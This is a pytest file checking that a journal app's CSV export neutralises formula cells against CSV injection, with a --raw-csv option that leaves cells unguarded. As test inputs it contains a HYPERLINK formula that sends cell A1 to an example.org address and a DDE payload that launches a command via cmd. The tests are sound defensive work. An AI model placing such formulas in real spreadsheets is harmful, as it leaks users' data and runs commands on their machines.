"""CSV export keeps a spreadsheet safe: a cell that would run as a formula starts with a ``'``
(OWASP's advice against CSV injection), and ``--raw-csv`` writes the cells as they are."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from practice_tui.cli.commands import main
from practice_tui.journal import Answer, Journal, write_export
from practice_tui.journal.export_csv import FORMULA_STARTS, inert_cell

MONDAY = datetime(2026, 2, 2, 8, 30, tzinfo=UTC)


@pytest.fixture
def journal(tmp_path: Path):
    with Journal.open(tmp_path / "journal.sqlite3") as opened:
        yield opened


def rows(journal: Journal, *, sessions: bool = False, raw_csv: bool = False) -> list[list[str]]:
    stream = io.StringIO(newline="")
    write_export(journal, "csv", stream, sessions=sessions, raw_csv=raw_csv)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_would_run_as_a_formula_starts_with_a_quote(
    journal: Journal, start: str
) -> None:
    formula = f'{start}HYPERLINK("https://example.org/?"&A1, "open")'
    journal.entries.add(
        answers=[Answer(f"{formula}?", f"{formula} is what I wrote")],
        practice_id="p",
        practice_name=formula,
        week=1,
        created_at=MONDAY,
    )
    header, raw = rows(journal, raw_csv=True)
    assert rows(journal)[0] == header
    guarded = rows(journal)[1]
    for before, after in zip(raw, guarded, strict=True):
        assert after == (f"'{before}" if before.startswith(FORMULA_STARTS) else before)
        assert not after.startswith(FORMULA_STARTS)
    if start.strip():  # (a journal keeps no answer or title starting with white space)
        cells = dict(zip(header, guarded, strict=True))
        assert cells["title"] == f"'{formula}"
        assert cells["question_1"] == f"'{formula}?"
        assert cells["answer_1"] == f"'{formula} is what I wrote"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_start_of_a_formula_is_guarded_whatever_follows(start: str) -> None:
    assert inert_cell(f"{start}1") == f"'{start}1"
    assert inert_cell(f"a{start}1") == f"a{start}1"
    assert inert_cell(3) == 3


def test_raw_csv_writes_every_cell_as_it_is(journal: Journal) -> None:
    journal.entries.add(answers=[Answer("=1+2", "-3 @me")], created_at=MONDAY)
    _, row = rows(journal, raw_csv=True)
    assert row[-2:] == ["=1+2", "-3 @me"]


def test_practice_sessions_are_kept_safe_too(journal: Journal) -> None:
    journal.sessions.record(
        practice_id="=cmd|' /C calc'!A0",
        practice_name="@SUM(1+1)*cmd|' /C calc'!A0",
        week=1,
        started_at=MONDAY,
        ended_at=MONDAY + timedelta(minutes=3),
        planned_seconds=180,
        practised_seconds=180,
        completed=True,
    )
    header, row = rows(journal, sessions=True)
    cells = dict(zip(header, row, strict=True))
    assert cells["practice_id"] == "'=cmd|' /C calc'!A0"
    assert cells["practice_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@given(st.text(max_size=30))
@settings(max_examples=60, deadline=None)
def test_no_cell_starts_as_a_formula_and_the_quote_is_all_that_changes(text: str) -> None:
    words = text.replace("\x00", "") + "."  # never blank, so it can be saved
    with (
        tempfile.TemporaryDirectory() as folder,
        Journal.open(Path(folder) / "journal.sqlite3") as journal,
    ):
        journal.entries.add(answers=[Answer(words, words)], created_at=MONDAY)
        _, row = rows(journal)
    for cell in row[-2:]:
        assert not cell.startswith(FORMULA_STARTS)
        assert cell in (words, f"'{words}")
        assert (cell != words) == words.startswith(FORMULA_STARTS)


def test_the_command_guards_by_default_and_raw_csv_turns_it_off(private_folders: Path) -> None:
    with Journal.open(private_folders / "journal.sqlite3") as opened:
        opened.entries.add(answers=[Answer("Q", "=2+2")], created_at=MONDAY)
    guarded = CliRunner().invoke(main, ["export", "--format", "csv"])
    raw = CliRunner().invoke(main, ["export", "--format", "csv", "--raw-csv"])
    assert guarded.exit_code == raw.exit_code == 0
    assert guarded.stdout.rstrip().endswith(",'=2+2")
    assert raw.stdout.rstrip().endswith(",=2+2")


def test_raw_csv_without_csv_is_a_mistake_in_the_command(private_folders: Path) -> None:
    result = CliRunner().invoke(main, ["export", "--format", "md", "--raw-csv"])
    assert result.exit_code == 2
    assert "--raw-csv is for CSV" in result.stderr
